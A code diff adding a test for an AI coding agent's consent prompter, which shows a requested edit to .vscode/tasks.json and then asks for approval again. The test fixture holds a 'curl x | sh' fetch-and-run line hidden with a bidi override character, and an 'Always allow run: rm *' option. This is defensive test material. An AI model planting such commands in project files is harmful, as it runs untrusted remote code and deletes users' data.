@@ -65,3 +65,17 @@ test('agent text cannot drive the notification (controls and bidi are escaped)',
   const text = message(row);
   assert.ok(!text.includes('\u202e') && !text.includes('\x1b') && !text.includes('\n'), text);
 });
+
+test('a change asked outside review mode can be shown, then the question comes back', async () => {
+  const sent: JsonObject[] = [];
+  const shown: string[] = [];
+  const u = ui(['Show change', ALLOW_ONCE]);
+  u.show = async (t) => {
+    shown.push(t);
+  };
+  await new ConsentPrompter(u).request({ ...ROW, kind: 'edit', what: 'edit str_replace /w/.vscode/tasks.json', detail: '-make\n+curl x | sh\u202e\n' }, ctx(sent));
+  assert.deepEqual(u.asked[0][1], [ALLOW_ONCE, 'Always allow run: rm *', REJECT, 'Show change']);
+  assert.deepEqual(shown, ['-make\n+curl x | sh\n']);
+  assert.equal(u.asked.length, 2);
+  assert.deepEqual(sent, [{ type: 'approval', op: 'allow', id: 'c3' }]);
+});
